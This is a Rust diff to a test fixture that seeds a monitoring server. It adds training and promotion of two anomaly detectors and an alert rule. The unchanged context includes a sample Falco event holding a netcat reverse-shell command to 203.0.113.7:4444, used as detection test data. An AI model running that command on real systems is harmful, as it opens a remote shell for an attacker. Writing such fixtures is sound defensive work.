@@ -2,6 +2,7 @@
 
 use std::time::Duration;
 
+use lanner_deep::{Detector, Frame, Training};
 use lanner_testkit::Browser;
 use serde_json::{Value, json};
 
@@ -26,6 +27,7 @@ pub(crate) async fn fill(server: &Running) {
     behave(server).await;
     scan(server).await;
     call(server).await;
+    train(server).await;
     pay(server, "hsbc").await;
 }
 
@@ -80,6 +82,31 @@ async fn behave(server: &Running) {
         (0..120).rev().map(|at| event(10 + at * 10, &["cron", "systemd"], "backup --run")).collect();
     events.push(event(3, &["nginx", "systemd"], "nc -e <sh> 203.0.113.7 4444"));
     server.text("/api/v1/events/falco", events.join("\n")).await;
+}
+
+/// Two detectors of one name, of which one scores, and a rule that asks it.
+async fn train(server: &Running) {
+    let wave = |i: u16| (f32::from(i) / 10.0).sin();
+    for seed in [1, 2] {
+        let values = (0..400).flat_map(|i| [wave(i), 5.0 * wave(i) + f32::from(i * 31 % 7) / 70.0]).collect();
+        let frame = Frame::new(vec!["requests".to_owned(), "cpu".to_owned()], values).unwrap();
+        let training = Training { seed, window: Some(5 + seed as usize), ..Training::default() };
+        let detector = Detector::train(&frame, &training, &mut |_| ()).unwrap();
+        let bytes = detector.with_notes(json!({ "name": "web", "step_ms": 60_000 })).to_bytes();
+        let kept = server.http.post(format!("{}/api/v1/models", server.url)).body(bytes);
+        let kept = match server.tokens.values().next() {
+            Some(token) => kept.bearer_auth(token),
+            None => kept,
+        };
+        let kept: Value = kept.send().await.unwrap().json().await.unwrap();
+        if seed == 1 {
+            let path = format!("/api/v1/models/{}/promote", kept["id"].as_str().unwrap());
+            server.fine("POST", &path, json!({ "to": "champion" })).await;
+        }
+    }
+    let columns = json!({ "requests": { "stream": "payments", "measure": "count" }, "cpu": { "series": "cpu", "measure": "avg" } });
+    let rule = json!({ "id": "odd-load", "query": { "model": "web", "columns": columns }, "window": "1m", "absolute": { "max": 1 } });
+    server.fine("POST", "/api/v1/apply", json!({ "rules": [rule] })).await;
 }
 
 /// Has alerts fire: payments that are counted in the next window.
